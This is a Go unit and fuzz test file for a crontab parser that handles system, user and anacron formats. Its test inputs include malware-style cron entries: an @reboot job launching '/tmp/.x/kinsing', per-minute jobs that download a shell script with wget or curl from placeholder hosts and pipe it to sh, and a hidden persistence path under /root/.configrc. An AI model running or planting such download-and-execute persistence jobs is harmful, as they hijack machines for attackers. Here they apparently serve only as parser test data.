package crontab

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParseSystem(t *testing.T) {
	f := Parse([]byte("SHELL=/bin/sh\nPATH = \"/usr/bin:/bin\"\n# m h dom mon dow user  command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /tmp/.x/kinsing\n*/5 * * * * root date +\\%s % input%line\n* * * *\n\n"), System)
	require.Len(t, f.Lines, 8)
	assert.Equal(t, Env, f.Lines[0].Kind)
	assert.Equal(t, "/usr/bin:/bin", f.Lines[1].EnvValue)
	assert.Equal(t, Comment, f.Lines[2].Kind)
	j := f.Lines[3]
	assert.Equal(t, Job, j.Kind)
	assert.Equal(t, "17 * * * *", j.Schedule)
	assert.Equal(t, "root", j.User)
	assert.Equal(t, "cd / && run-parts --report /etc/cron.hourly", j.Command)
	assert.Equal(t, "@reboot", f.Lines[4].Schedule)
	assert.Equal(t, "/tmp/.x/kinsing", f.Lines[4].Command)
	assert.Equal(t, "date +%s ", f.Lines[5].Command)
	assert.Equal(t, " input\nline", f.Lines[5].Input)
	assert.Equal(t, Invalid, f.Lines[6].Kind)
	assert.Len(t, f.Jobs(), 3)
	v, ok := f.Env("PATH", 4)
	assert.True(t, ok)
	assert.Equal(t, "/usr/bin:/bin", v)
}

func TestParseUserAndAnacron(t *testing.T) {
	u := Parse([]byte("* * * * * wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1\r\n"), User)
	require.Len(t, u.Jobs(), 1)
	assert.Equal(t, "* * * * *", u.Jobs()[0].Schedule)
	assert.Equal(t, "wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1", u.Jobs()[0].Command)
	a := Parse([]byte("1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"), Anacrontab)
	require.Len(t, a.Jobs(), 1)
	assert.Equal(t, "cron.daily", a.Jobs()[0].Name)
	assert.Equal(t, "run-parts --report /etc/cron.daily", a.Jobs()[0].Command)
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("*/1 * * * * root (curl -fsSL http://x/a.sh||wget -q -O- http://x/a.sh)|sh\n"), 1)
	f.Add([]byte("@reboot /root/.configrc/a/upd>/dev/null 2>&1\nA=b\n% %\\%"), 2)
	f.Add([]byte("1 5 id cmd\n"), 3)
	f.Fuzz(func(t *testing.T, data []byte, format int) {
		fm := Format(format%3 + 1)
		p := Parse(data, fm)
		for _, l := range p.Lines {
			if l.Kind == Job && strings.TrimSpace(l.Command) == "" {
				t.Fatalf("job without a command: %q", l.Raw)
			}
			if l.N < 1 || l.N > len(p.Lines) {
				t.Fatalf("line number %d", l.N)
			}
		}
	})
}
